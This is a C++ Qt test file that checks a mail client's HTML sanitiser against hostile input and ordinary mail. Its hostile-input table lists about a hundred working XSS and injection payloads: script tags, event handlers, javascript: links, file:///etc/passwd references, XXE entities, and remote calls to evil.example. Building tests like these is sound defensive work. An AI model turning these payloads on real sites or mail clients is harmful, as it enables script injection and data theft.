// SPDX-FileCopyrightText: 2026 The Leadwell authors
// SPDX-License-Identifier: GPL-3.0-or-later

// Shows that whatever a mail contains, what comes out is a small set of tags and attributes with no way
// outward, that it is its own cleaned form, and that honest mail keeps its content.
#include "core/mailhtml/SafeHtml.h"
#include "tests/support/Property.h"

#include <QHash>
#include <QRegularExpression>
#include <QSet>
#include <QTest>

using namespace leadwell::mailhtml;

namespace {

QString html(const char* text) {
    return QString::fromUtf8(text);
}

bool isAllowedAttribute(const QString& name, const QString& value, bool allowsRemote) {
    static const QHash<QString, QRegularExpression> shapes = {
        {QStringLiteral("href"),
         QRegularExpression(QStringLiteral("^(https?://[^\\s<>\"]+|mailto:[^\\s<>\"]+@[^\\s<>\"]+|tel:[0-9+*#().\\-]+)$"))},
        {QStringLiteral("alt"), QRegularExpression(QStringLiteral("^[^<>\"]*$"))},
        {QStringLiteral("align"), QRegularExpression(QStringLiteral("^(left|right|center|justify)$"))},
        {QStringLiteral("dir"), QRegularExpression(QStringLiteral("^(ltr|rtl)$"))},
        {QStringLiteral("width"), QRegularExpression(QStringLiteral("^\\d{1,4}$"))},
        {QStringLiteral("height"), QRegularExpression(QStringLiteral("^\\d{1,4}$"))},
        {QStringLiteral("colspan"), QRegularExpression(QStringLiteral("^\\d{1,3}$"))},
        {QStringLiteral("rowspan"), QRegularExpression(QStringLiteral("^\\d{1,2}$"))},
        {QStringLiteral("cellpadding"), QRegularExpression(QStringLiteral("^4$"))},
        {QStringLiteral("cellspacing"), QRegularExpression(QStringLiteral("^0$"))},
        {QStringLiteral("start"), QRegularExpression(QStringLiteral("^\\d{1,6}$"))},
        {QStringLiteral("style"),
         QRegularExpression(QStringLiteral("^((color|background-color):#[0-9a-f]{6}|font-weight:(bold|normal)|;)+$"))},
    };
    if (name == QStringLiteral("src"))
        return (value.startsWith(QStringLiteral("cid:")) || (allowsRemote && value.startsWith(QStringLiteral("remote:")))) &&
               !value.contains(QLatin1Char('/')) && !value.contains(QLatin1Char('\\'));
    const auto shape = shapes.constFind(name);
    return shape != shapes.cend() && shape->match(value).hasMatch();
}

/// Rows belong to tables, cells to rows, items to lists, and nothing else does.
bool mayStandIn(const QString& parent, const QString& tag) {
    if (parent == QStringLiteral("table") || tag == QStringLiteral("tr"))
        return parent == QStringLiteral("table") && tag == QStringLiteral("tr");
    const bool isCell = tag == QStringLiteral("td") || tag == QStringLiteral("th");
    if (parent == QStringLiteral("tr") || isCell)
        return parent == QStringLiteral("tr") && isCell;
    const bool isList = parent == QStringLiteral("ul") || parent == QStringLiteral("ol");
    if (isList)
        return tag == QStringLiteral("li") || tag == QStringLiteral("ul") || tag == QStringLiteral("ol");
    return tag != QStringLiteral("li");
}

/// What is wrong with cleaned HTML; empty when nothing is. Written against the rules, not against the code.
QString complaint(const QString& text, bool allowsRemote = false) {
    static const QSet<QString> tags = [] {
        QSet<QString> set;
        for (const char* tag : {"a",     "b",    "big",    "blockquote", "br",  "code",  "div", "em", "h1", "h2",  "h3",
                                "h4",    "h5",   "h6",     "hr",         "i",   "img",   "li",  "ol", "p",  "pre", "s",
                                "small", "span", "strong", "sub",        "sup", "table", "td",  "th", "tr", "u",   "ul"})
            set.insert(QString::fromLatin1(tag));
        return set;
    }();
    static const QRegularExpression tag(QStringLiteral("<([^<>]*)>"));
    static const QRegularExpression opening(QStringLiteral("^([a-z0-9]+)((?: [a-z]+=\"[^\"<>]*\")*)$"));
    static const QRegularExpression attribute(QStringLiteral(" ([a-z]+)=\"([^\"]*)\""));
    QStringList open;
    int tables = 0;
    qsizetype end = 0;
    auto it = tag.globalMatch(text);
    while (it.hasNext()) {
        const auto match = it.next();
        if (QStringView(text).mid(end, match.capturedStart() - end).contains(QLatin1Char('<')))
            return QStringLiteral("a bare <");
        end = match.capturedEnd();
        const QString inside = match.captured(1);
        if (inside.startsWith(QLatin1Char('/'))) {
            if (open.isEmpty() || open.takeLast() != inside.mid(1))
                return QStringLiteral("unbalanced </%1>").arg(inside);
            tables -= inside == QStringLiteral("/table") ? 1 : 0;
            continue;
        }
        const auto parts = opening.match(inside);
        if (!parts.hasMatch() || !tags.contains(parts.captured(1)))
            return QStringLiteral("tag <%1>").arg(inside);
        auto attributes = attribute.globalMatch(parts.captured(2));
        while (attributes.hasNext()) {
            const auto pair = attributes.next();
            QString value = pair.captured(2);
            value.replace(QStringLiteral("&lt;"), QString())
                .replace(QStringLiteral("&gt;"), QString())
                .replace(QStringLiteral("&quot;"), QString());
            value.replace(QStringLiteral("&amp;"), QStringLiteral("&"));
            if (!isAllowedAttribute(pair.captured(1), value, allowsRemote))
                return QStringLiteral("attribute %1=%2").arg(pair.captured(1), value);
        }
        const QString name = parts.captured(1);
        if (!mayStandIn(open.value(open.size() - 1), name))
            return QStringLiteral("<%1> in <%2>").arg(name, open.value(open.size() - 1));
        if (name != QStringLiteral("br") && name != QStringLiteral("hr") && name != QStringLiteral("img"))
            open += name;
        tables += name == QStringLiteral("table") ? 1 : 0;
        if (open.size() > 110 || tables > 6)
            return QStringLiteral("too deep");
    }
    if (QStringView(text).mid(end).contains(QLatin1Char('<')))
        return QStringLiteral("a bare < at the end");
    return open.isEmpty() ? QString() : QStringLiteral("left open: ") + open.join(QLatin1Char(' '));
}

qsizetype longestWord(const QString& text) {
    qsizetype longest = 0;
    qsizetype length = 0;
    bool inTag = false;
    QString plain = text;
    plain.replace(QRegularExpression(QStringLiteral("&[a-z]+;")), QStringLiteral("&"));
    for (const QChar c : std::as_const(plain)) {
        if (c == QLatin1Char('<'))
            inTag = true;
        if (!inTag) {
            length = c.isSpace() || c == QChar(0x200B) ? 0 : length + 1;
            longest = qMax(longest, length);
        }
        if (c == QLatin1Char('>'))
            inTag = false;
    }
    return longest;
}

/// Markup soup: the words hostile mail is made of, in any order.
rc::Gen<QString> anySoup() {
    static const std::vector<std::string> words = {"<p>",
                                                   "</p>",
                                                   "<div style=\"color:red\">",
                                                   "</div>",
                                                   "<table>",
                                                   "</table>",
                                                   "<tr>",
                                                   "</tr>",
                                                   "<td>",
                                                   "</td>",
                                                   "<td colspan=9>",
                                                   "<ul>",
                                                   "</ul>",
                                                   "<ol>",
                                                   "<li>",
                                                   "</li>",
                                                   "<b>",
                                                   "</b>",
                                                   "<i>",
                                                   "</i>",
                                                   "<strong>",
                                                   "</strong>",
                                                   "<span style='font-weight:900'>",
                                                   "</span>",
                                                   "<font color=blue>",
                                                   "</font>",
                                                   "<a href=\"http://x.example\">",
                                                   "<a href=javascript:x>",
                                                   "</a>",
                                                   "<img src=cid:a>",
                                                   "<img src=http://t.example alt='A b'>",
                                                   "<br>",
                                                   "<hr>",
                                                   "<pre>",
                                                   "</pre>",
                                                   "\n",
                                                   " ",
                                                   "  ",
                                                   "text",
                                                   "x<y",
                                                   "&amp;",
                                                   "&lt;script&gt;",
                                                   "&nbsp;",
                                                   "<script>",
                                                   "</script>",
                                                   "<style>",
                                                   "</style>",
                                                   "<!--",
                                                   "-->",
                                                   "<![if x]>",
                                                   "<!",
                                                   "<?",
                                                   "<",
                                                   ">",
                                                   "\"",
                                                   "'",
                                                   "=",
                                                   "/",
                                                   "<svg>",
                                                   "</svg>",
                                                   "<h1>",
                                                   "</h1>",
                                                   "<blockquote>",
                                                   "</blockquote>",
                                                   "<center>",
                                                   "</center>",
                                                   "<caption>",
                                                   "<th>",
                                                   "<wbr>",
                                                   "<o:p>",
                                                   "</o:p>",
                                                   "<body>",
                                                   "</body>",
                                                   "</html>",
                                                   "<html>",
                                                   "<head>",
                                                   "<title>",
                                                   "</title>",
                                                   "<select>",
                                                   "<option>",
                                                   "<iframe src=x>",
                                                   "</iframe>",
                                                   "<form>",
                                                   "<input>",
                                                   "<textarea>",
                                                   "</textarea>",
                                                   "<dl>",
                                                   "<dt>",
                                                   "<dd>",
                                                   "<em>",
                                                   "</em>",
                                                   "<u>",
                                                   "<sub>",
                                                   "<unknown>",
                                                   "</unknown>",
                                                   "\xC3\xBC",
                                                   "\xE2\x80\x8B",
                                                   "</",
                                                   "<a ",
                                                   "onclick=x "};
    return rc::gen::map(rc::gen::container<std::vector<std::string>>(rc::gen::elementOf(words)),
                        [](const std::vector<std::string>& parts) {
                            std::string all;
                            for (const auto& part : parts)
                                all += part;
                            return QString::fromStdString(all);
                        });
}

} // namespace

class tst_Sanitise : public QObject {
    Q_OBJECT

private Q_SLOTS:
    void init() { QTest::failOnWarning(QRegularExpression(QStringLiteral(".*"))); }

    void hostileMailComesOutHarmless_data() {
        QTest::addColumn<QString>("input");
        const char* const payloads[] = {
            "<script>alert(1)</script>x",
            "<SCRIPT SRC=//evil.example/x.js></SCRIPT>x",
            "<scr<script>ipt>alert(1)</scr</script>ipt>",
            "<<script>alert(1)//<</script>",
            "<script/x>alert(1)</script>",
            "<script\n>alert(1)</script\n>",
            "<img src=x onerror=alert(1)>",
            "<img src='x' OnErRoR='alert(1)'>",
            "<img/src=x/onerror=alert(1)>",
            "<img \"\"\"><script>alert(1)</script>\">",
            "<img src=file:///etc/passwd>",
            "<img src='FILE:///C:/x'>",
            "<img src='\\\\evil.example\\share\\x.png'>",
            "<img src='//evil.example/x.png'>",
            "<img src=/etc/passwd>",
            "<img src=../../x.png>",
            "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
            "<img src='data:image/png;base64,iVBORw0KGgo='>",
            "<img src='cid:../../etc/passwd'>",
            "<img src='cid:a\" onerror=\"x'>",
            "<img src='cid:a/b'>",
            "<img src=':/icons/app.svg'>",
            "<img src='qrc:/x.png'>",
            "<img src=http://evil.example/t.gif width=1 height=1>",
            "<img srcset='http://evil.example/a 2x' src=cid:ok>",
            "<img lowsrc=http://evil.example/a dynsrc=http://evil.example/b>",
            "<picture><source srcset=http://evil.example/a><img src=x></picture>",
            "<body background=http://evil.example/b.png onload=x>t",
            "<table background=file:///x><tr><td background='http://evil.example/x'>t</table>",
            "<p style=\"background:url(http://evil.example/x)\">t",
            "<p style=\"background-image:u\\72l(http://evil.example/x)\">t",
            "<p style='width:expression(alert(1))'>t",
            "<p style='color:red;behavior:url(x.htc);-moz-binding:url(x)'>t",
            "<p style='position:fixed;top:0;left:0;width:9999px'>t",
            "<p style='color:red\" onclick=\"x'>t",
            "<style>@import 'http://evil.example/x.css';</style>t",
            "<style>p{background:url(http://evil.example)}</style><p>t",
            "<link rel=stylesheet href=http://evil.example/x.css>t",
            "<base href='javascript:'><a href='//x'>t</a>",
            "<meta http-equiv=refresh content='0;url=http://evil.example'>t",
            "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
            "<meta http-equiv=Content-Type content='text/html; charset=utf-16'>t",
            "<iframe src=http://evil.example></iframe>t",
            "<iframe srcdoc='<script>alert(1)</script>'></iframe>t",
            "<object data=file:///x><param name=a value=b>fallback</object>t",
            "<embed src=file:///x>t",
            "<applet code=x></applet>t",
            "<frameset><frame src=http://evil.example></frameset>",
            "<svg onload=alert(1)><image href='file:///x'/></svg>t",
            "<svg><style><img src=x onerror=alert(1)></style></svg>t",
            "<math><mi xlink:href='javascript:x'>t</mi></math>",
            "<form action=http://evil.example><input name=p type=password><button>Go</button></form>",
            "<a href='javascript:alert(1)'>t</a>",
            "<a href='JaVaScRiPt:alert(1)'>t</a>",
            "<a href='java\nscript:alert(1)'>t</a>",
            "<a href='java&#9;script:alert(1)'>t</a>",
            "<a href='&#106;avascript:alert(1)'>t</a>",
            "<a href=' \x01javascript:alert(1)'>t</a>",
            "<a href='vbscript:x'>t</a>",
            "<a href='data:text/html,<script>x</script>'>t</a>",
            "<a href='file:///etc/passwd'>t</a>",
            "<a href='smb://evil.example/share'>t</a>",
            "<a href='\\\\evil.example\\share'>t</a>",
            "<a href='ms-msdt:/id x'>t</a>",
            "<a href='search-ms:query=x'>t</a>",
            "<a href='leadwell:lead/1'>t</a>",
            "<a href='/relative'>t</a>",
            "<a href='#top'>t</a>",
            "<a href='https:///nohost'>t</a>",
            "<a href='https://a.example/\" onclick=\"x'>t</a>",
            "<a href=\"mailto:a@b.example?attach=/etc/passwd&bcc=x@y.example\">t</a>",
            "<a href='tel:javascript:x'>t</a>",
            "<!--[if gte mso 9]><xml><o:x>hidden</o:x></xml><![endif]-->t",
            "<!--><script>alert(1)</script>-->t",
            "<!-- --!><img src=x onerror=alert(1)> -->t",
            "<![CDATA[<script>alert(1)</script>]]>t",
            "<?php echo 1 ?>t<?xml-stylesheet href='http://evil.example'?>",
            "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;t",
            "<!DOCTYPE x [<!ENTITY a 'aaaa'><!ENTITY b '&a;&a;&a;'>]>&b;",
            "<xml><p>t</xml>x",
            "<video src=http://evil.example/v poster=http://evil.example/p></video>t",
            "<audio autoplay src=http://evil.example/a></audio>t",
            "<template><img src=x onerror=alert(1)></template>t",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">t",
            "<textarea><script>alert(1)</script></textarea>t",
            "<title><img src=x onerror=alert(1)></title>t",
            "<plaintext><script>alert(1)</script>",
            "<xmp><script>alert(1)</script></xmp>",
            "<p title='><script>alert(1)</script>'>t",
            "<p \x01onclick=x>t",
            "<p onclick\x0c=x>t",
            "<p a=`><script>x</script>`>t",
            "<td colspan=1000000000 rowspan=-5>t",
            "<table><tr><td colspan=999999>t</table>",
            "<font color='red;background:url(x)'>t</font>",
            "<ol start=99999999999999999999><li>t</ol>",
            "<div dir='rtl\" onclick=\"x'>t</div>",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "&amp;lt;script&amp;gt;",
            "<b",
            "<",
            "</",
            "<!",
            "<!-",
            "<a href=\"",
            "<p style=\"color:red",
        };
        int number = 0;
        for (const char* payload : payloads)
            QTest::newRow(qPrintable(QStringLiteral("%1 %2").arg(++number).arg(html(payload).left(50)))) << html(payload);
        QTest::newRow("nul") << QString(QStringLiteral("<scr") + QChar(0) + QStringLiteral("ipt>alert(1)</script><p on") +
                                        QChar(0) + QStringLiteral("click=x>t"));
        QTest::newRow("half surrogate") << QString(QStringLiteral("<p>") + QChar(0xD800) + QStringLiteral("<script>x"));
        QTest::newRow("full-width tag") << QStringLiteral("＜script＞alert(1)＜/script＞");
        QTest::newRow("frame characters") << QStringLiteral("a\uFDD0b\uFDD1c\uFFFCd\u2029e");
        QVERIFY(number >= 60);
    }
    void hostileMailComesOutHarmless() {
        QFETCH(QString, input);
        const SafeHtml safe = sanitise(input);
        QVERIFY2(complaint(safe.html).isEmpty(), qPrintable(complaint(safe.html) + QStringLiteral(" in ") + safe.html));
        QCOMPARE(sanitise(safe.html).html, safe.html);
        Options shown;
        shown.showsRemoteImages = true;
        const QString withImages = sanitise(input, shown).html;
        QVERIFY2(complaint(withImages, true).isEmpty(), qPrintable(withImages));
        QVERIFY(!safe.html.contains(QChar(0xFFFC)) && !safe.html.contains(QChar(0xFDD0)));
    }

    void anySoupComesOutHarmlessAndSettled() {
        leadwell::test::property("cleaned HTML keeps the rules and is its own cleaned form", [] {
            const SafeHtml safe = sanitise(*anySoup());
            RC_LOG() << safe.html.toStdString();
            RC_ASSERT(complaint(safe.html).toStdString() == std::string());
            RC_ASSERT(sanitise(safe.html).html == safe.html);
        });
    }

    void anyBytesComeOutHarmlessAndSettled() {
        leadwell::test::property("the same for any characters", [](const std::string& text) {
            const SafeHtml safe = sanitise(QString::fromLatin1(text.data(), static_cast<qsizetype>(text.size())));
            RC_ASSERT(complaint(safe.html).toStdString() == std::string());
            RC_ASSERT(sanitise(safe.html).html == safe.html);
        });
    }

    void honestMailIsKept_data() {
        QTest::addColumn<QString>("input");
        QTest::addColumn<QString>("output");
        const auto row = [](const char* name, const char* input, const char* output) {
            QTest::newRow(name) << html(input) << html(output);
        };
        row("text", "Hello Asha", "Hello Asha");
        row("umlauts and entities", "<p>Grüße &amp; &eacute; &#8377; 😀</p>", "<p>Grüße &amp; é ₹ 😀</p>");
        row("a charset that lies", "<meta charset=windows-1252><p>नमस्ते</p>", "<p>नमस्ते</p>");
        row("words of weight", "<p><b>a</b> <strong>b</strong> <em>c</em> <u>d</u> <strike>e</strike></p>",
            "<p><b>a</b> <strong>b</strong> <em>c</em> <u>d</u> <s>e</s></p>");
        row("colours", "<p style='COLOR: rgb(255, 0,0); font-weight:700; font-size:90px'>x</p>",
            "<p style=\"color:#ff0000;font-weight:bold\">x</p>");
        row("font", "<font color=#0F0 size=7>x</font>", "<span style=\"color:#00ff00\">x</span>");
        row("alignment", "<center>x</center><p align=RIGHT>y</p><td style='text-align:left'>z",
            "<div align=\"center\">x</div><p align=\"right\">y</p>z");
        row("blanks", "<p>\n  a \n b  <b> c</b>\n</p>\n\n<p>d</p>", "<p>a b <b>c</b> </p><p>d</p>");
        row("lists", "<ul><li>a<li>b<ol start=3><li>c</ol></ul>", "<ul><li>a</li><li>b<ol start=\"3\"><li>c</li></ol></li></ul>");
        row("table without end tags", "<table><tr><th>a<td>b<tr><td colspan=2 bgcolor=yellow>c</table>",
            "<table cellpadding=\"4\" cellspacing=\"0\"><tr><th>a</th><td>b</td></tr><tr><td colspan=\"2\" "
            "style=\"background-color:#ffff00\">c</td></tr></table>");
        row("text in a table", "<table>x<tr>y<td>z</table>",
            "<table cellpadding=\"4\" cellspacing=\"0\"><tr><td>x</td></tr><tr><td>y</td><td>z</td></tr></table>");
        row("cells without a table", "<td>a</td><td>b</td>", "a b");
        row("preformatted", "<pre>a  b\n  c</pre>", "<pre>a  b\n  c</pre>");
        row("links",
            "<a href=' HTTPS://Example.COM/a b?x=1&y=2 '>t</a> <a href=mailto:a@b.in>m</a> <a href='tel:+91 "
            "98200'>c</a>",
            "<a href=\"https://example.com/ab?x=1&amp;y=2\">t</a> <a href=\"mailto:a@b.in\">m</a> <a "
            "href=\"tel:+9198200\">c</a>");
        row("a script that is only asked for", "<a href='https://example.com/?a=1&ajavascript:x'>t</a>",
            "<a href=\"https://example.com/?a=1&amp;ajavascript:x\">t</a>");
        row("own image", "<img src='CID:logo@x' alt='Our logo' width=90 height=9999999>",
            "<img src=\"cid:logo@x\" alt=\"Our logo\" width=\"90\" height=\"4000\">");
        row("remote image", "a <img src=https://x.in/a.png alt='Offer'> b", "a Offer b");
        row("word processor", "<p class=MsoNormal><o:p>&nbsp;</o:p></p><![if !supportLists]>1.<![endif]>x", "<p>\u00A0</p>1.x");
        row("hidden preheader", "<div style='display:none;max-height:0'>secret</div>shown<p hidden>no", "shown");
        row("form", "<form>Name: <input name=x><button>Send</button></form>", "<div>Name: Send</div>");
        row("paragraph in paragraph", "<p>a<p>b<div>c</div>", "<p>a</p><p>b</p><div>c</div>");
        row("right to left", "<div dir=rtl>שלום</div>", "<div dir=\"rtl\">שלום</div>");
        row("script in the middle", "a<script>if (a<b) x('</p>')</script>b", "ab");
    }
    void honestMailIsKept() {
        QFETCH(QString, input);
        QFETCH(QString, output);
        QCOMPARE(sanitise(input).html, output);
    }

    void thePlainTextReadsWell() {
        const SafeHtml safe =
            sanitise(html("<h1>Offer</h1><p>Dear "
                          "Asha,<br>see:</p><ul><li>one<li>two</ul><ol><li>a<li>b</ol><table><tr><td>Qty<td>100"
                          "<tr><td>Price<td>5</table><hr><blockquote>old<blockquote>older</blockquote></blockquote>"
                          "<p>Bye</p><img src=cid:x alt=Logo>"));
        QCOMPARE(safe.plainText, html("Offer\n\nDear Asha,\nsee:\n\n• one\n• two\n1. a\n2. b\nQty  "
                                      "100\nPrice  5\n---\n> old\n> > older\n\nBye\n\n[Logo]"));
    }

    void remoteImagesAreCountedAndListed() {
        const QString mail = html("<body><p style=\"background:url('http://a.in/bg')\"><img src=http://a.in/1.png><img "
                                  "src=http://a.in/1.png>"
                                  "<img src=//b.in/2.png width=1 height=1><td background=http://a.in/bg2><img src=cid:own>");
        const SafeHtml safe = sanitise(mail);
        QCOMPARE(safe.blockedImages, 5);
        QCOMPARE(safe.remoteImages.size(), 2);
        QCOMPARE(safe.remoteImages.at(0).url, QStringLiteral("http://a.in/1.png"));
        QVERIFY(!safe.remoteImages.at(0).isTracker);
        QCOMPARE(safe.remoteImages.at(1).url, QStringLiteral("https://b.in/2.png"));
        QVERIFY(safe.remoteImages.at(1).isTracker);
        QCOMPARE(safe.contentIds, QStringList(QStringLiteral("own")));
    }

    void shownRemoteImagesAreReferredToByNumber() {
        Options options;
        options.showsRemoteImages = true;
        const SafeHtml safe = sanitise(html("<img src='remote:0'><img src=http://a.in/1.png alt=A "
                                            "width=50><img src=http://a.in/t width=1 height=1>"),
                                       options);
        QCOMPARE(safe.html, html("<img src=\"remote:0\" alt=\"A\" width=\"50\">"));
        QCOMPARE(safe.blockedImages, 1);
        QCOMPARE(safe.remoteImages.size(), 2);
    }

    void aLinkThatShowsAnotherHostIsMarked_data() {
        QTest::addColumn<QString>("link");
        QTest::addColumn<QString>("host");
        QTest::addColumn<bool>("marked");
        const auto row = [](const char* link, const char* host, bool marked) {
            QTest::newRow(link) << html(link) << html(host) << marked;
        };
        row("<a href='https://evil.example/x'>https://bank.example/login</a>", "evil.example", true);
        row("<a href='https://evil.example/x'>www.bank.example</a>", "evil.example", true);
        row("<a href='https://evil.example/x'>bank.example</a>", "evil.example", true);
        row("<a href='https://evil.example/x'>Go to https://bank.example now</a>", "evil.example", true);
        row("<a href='https://evil.example/x'><b>bank</b>.example</a>", "evil.example", true);
        row("<a href='https://evil.example'>asha@bank.example</a>", "evil.example", true);
        row("<a href='https://bank.example@evil.example'>Log in</a>", "evil.example", true);
        row("<a href='https://xn--bnk-ula.example'>bank.example</a>", "xn--bnk-ula.example", true);
        row("<a href='https://bank.example.evil.example'>bank.example</a>", "bank.example.evil.example", true);
        row("<a href='tel:+1900'>bank.example</a>", "+1900", true);
        row("<a href='https://bank.example/x'>https://www.bank.example/login</a>", "bank.example", false);
        row("<a href='https://mail.bank.example/x'>bank.example</a>", "mail.bank.example", false);
        row("<a href='https://evil.example/x'>Click here</a>", "evil.example", false);
        row("<a href='https://files.example/x'>offer.pdf</a>", "files.example", false);
        row("<a href='mailto:asha@rao.example'>asha@rao.example</a>", "asha@rao.example", false);
        row("<a href='https://münchen.example'>münchen.example</a>", "xn--mnchen-3ya.example", false);
    }
    void aLinkThatShowsAnotherHostIsMarked() {
        QFETCH(QString, link);
        QFETCH(QString, host);
        QFETCH(bool, marked);
        const SafeHtml safe = sanitise(link);
        QCOMPARE(safe.links.size(), 1);
        QCOMPARE(safe.links.first().host, host);
        QCOMPARE(safe.links.first().showsAnotherHost, marked);
    }

    void mailtoKeepsSubjectAndBodyOnly() {
        const SafeHtml safe =
            sanitise(html("<a href='mailto:a@b.in?subject=Hi%20you&attach=/etc/passwd&bcc=c@d.in&body=x'>m</a>"));
        QCOMPARE(safe.links.first().target, QStringLiteral("mailto:a@b.in?subject=Hi%20you&body=x"));
    }

    void limitsHold_data() {
        QTest::addColumn<QString>("input");
        QTest::addColumn<bool>("shortened");
        QTest::addColumn<bool>("flattened");
        const auto repeated = [](const char* text, qsizetype times) { return html(text).repeated(times); };
        QTest::newRow("5,000 nested div") << QString(repeated("<div>", 5'000) + html("x")) << false << true;
        QTest::newRow("100,000 nested div") << repeated("<div>", 100'000) << true << true;
        QTest::newRow("tables 18 deep") << QString(repeated("<table><tr><td>", 18) + html("x")) << false << true;
        QTest::newRow("tables 300 deep") << QString(repeated("<table><tr><td>", 300) + html("x")) << false << true;
        QTest::newRow("100,000 equal attributes")
            << QString(html("<p ") + repeated("a=1 ", 100'000) + html(">x")) << false << false;
        QTest::newRow("5 MB word") << QString(5'000'000, QLatin1Char('x')) << true << false;
        QTest::newRow("100,000 elements") << repeated("<b>x</b>", 100'000) << true << false;
        QTest::newRow("100,000 lines") << QString(html("<pre>") + repeated("x\n", 100'000)) << true << false;
        QTest::newRow("end tags of nothing") << QString(repeated("<b>", 250) + repeated("</i>", 400'000)) << false << true;
        QTest::newRow("tags in tags") << repeated("<a ", 600'000) << true << false;
        QTest::newRow("tag starts") << repeated("<a", 1'000'000) << true << false;
        QTest::newRow("quotes never closed") << repeated("<a b=\"", 300'000) << true << false;
        QTest::newRow("less-than signs") << repeated("<", 2'000'000) << true << false;
        QTest::newRow("comments never closed") << repeated("<!--", 500'000) << false << false;
        QTest::newRow("deep lists") << repeated("<ul><li>", 5'000) << false << true;
        QTest::newRow("wide rows") << QString(html("<table><tr>") + repeated("<td>x", 500)) << false << true;
    }
    void limitsHold() {
        QFETCH(QString, input);
        QFETCH(bool, shortened);
        QFETCH(bool, flattened);
        const SafeHtml safe = sanitise(input);
        QVERIFY2(complaint(safe.html).isEmpty(), qPrintable(complaint(safe.html)));
        QVERIFY(longestWord(safe.html) <= 2'000);
        QVERIFY(safe.html.size() <= 2 * 1024 * 1024);
        QVERIFY(safe.html.count(QLatin1Char('<')) <= 2 * 20'000 + 500);
        QCOMPARE(safe.isShortened, shortened);
        if (flattened)
            QVERIFY(safe.wasFlattened);
        QCOMPARE(sanitise(safe.html).html, safe.html);
    }

    void aTagWithAQuarterMillionAttributesIsCut() {
        QString mail = QStringLiteral("<p title=\">\" ");
        for (int i = 0; i < 250'000; ++i)
            mail += QStringLiteral("a%1 ").arg(i);
        // Quadratic work here would take minutes; the time limit of the test is the assertion.
        QVERIFY(sanitise(mail).html.startsWith(QStringLiteral("<p>")));
    }

    void textBelowTheDepthLimitIsThere() {
        const QString mail = html("<div>").repeated(5'000) + html("deep") + html("</div>").repeated(5'000) + html("<p>after</p>");
        const SafeHtml safe = sanitise(mail);
        QCOMPARE(safe.plainText, html("deep\n\nafter"));
        QVERIFY(!safe.isShortened);
    }

    void aLongWordIsBrokenAcrossTags() {
        Options options;
        options.limits.wordLength = 4;
        QCOMPARE(sanitise(html("abc<b>def</b>ghi j"), options).html, html("abc<b>d\u200Bef</b>gh\u200Bi j"));
    }

    void theInputLimitDoesNotSplitACharacter() {
        Options options;
        options.limits.inputLength = 8;
        const SafeHtml safe = sanitise(QStringLiteral("<p>abcd😀ef"), options);
        QVERIFY(safe.isShortened);
        QCOMPARE(safe.html, QStringLiteral("<p>abcd</p>"));
    }
};

QTEST_GUILESS_MAIN(tst_Sanitise)
#include "tst_Sanitise.moc"
